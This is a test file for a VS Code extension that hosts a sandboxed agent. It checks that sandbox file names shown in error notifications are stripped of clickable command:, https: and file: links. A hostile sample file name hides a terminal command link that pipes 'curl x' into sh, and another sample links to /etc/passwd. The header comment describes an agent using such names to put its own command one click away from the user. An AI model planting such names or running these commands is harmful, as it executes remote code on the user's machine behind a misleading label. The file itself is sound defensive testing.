// VS Code renders `[label](command:…)`, `[label](https://…)` and `[label](file:…)` in a
// notification's message as a link, and a click runs the command with the arguments in the
// link. File names come from the sandbox: one named like such a link, shown in an error
// notification, would put a command of the agent's choosing one click away, under a label
// of its choosing. The extension's notifications must show such names as plain text.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { SandboxError } from '../../../src/core/errors';
import { plainForNotification } from '../../../src/extension/util/plainText';
import { createFakeVscode, installFakeVscode } from '../support/fakeVscode';

/** The pattern VS Code uses to find links in a notification's message. */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;

const HOSTILE_NAME = 'docs/[Review Changes](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D).md';

test('an error naming a sandbox file shows no link', async () => {
  const fake = createFakeVscode();
  const restore = installFakeVscode(fake.module);
  try {
    // eslint-disable-next-line @typescript-eslint/no-require-imports -- loaded after the stand-in is in place
    const { showError } = require('../../../src/extension/util/notify') as typeof import('../../../src/extension/util/notify');
    const logger = { error: () => undefined, info: () => undefined, warn: () => undefined, show: () => undefined };
    await showError(logger as never, 'Undo failed', new SandboxError('UNSAFE_PATH', `"${HOSTILE_NAME}" has no pending change any more.`));
    const shown = fake.recorded.notifications.map((n) => n.message);
    assert.equal(shown.length, 1);
    assert.ok(shown[0]!.includes('Review Changes'), shown[0]);
    assert.doesNotMatch(shown[0]!, NOTIFICATION_LINK);
  } finally {
    restore();
  }
});

test('plain text for a notification keeps what it says and loses every link', () => {
  for (const text of [HOSTILE_NAME, 'a/[x](https://example.invalid/p)', '[x](file:///etc/passwd "title")', '[[x]](command:a)']) {
    const plain = plainForNotification(text);
    assert.doesNotMatch(plain, NOTIFICATION_LINK, plain);
    assert.equal(plain.replace(/\u200b/g, ''), text, 'only invisible breaks are added');
  }
  assert.equal(plainForNotification('src/app.ts: refused'), 'src/app.ts: refused');
});
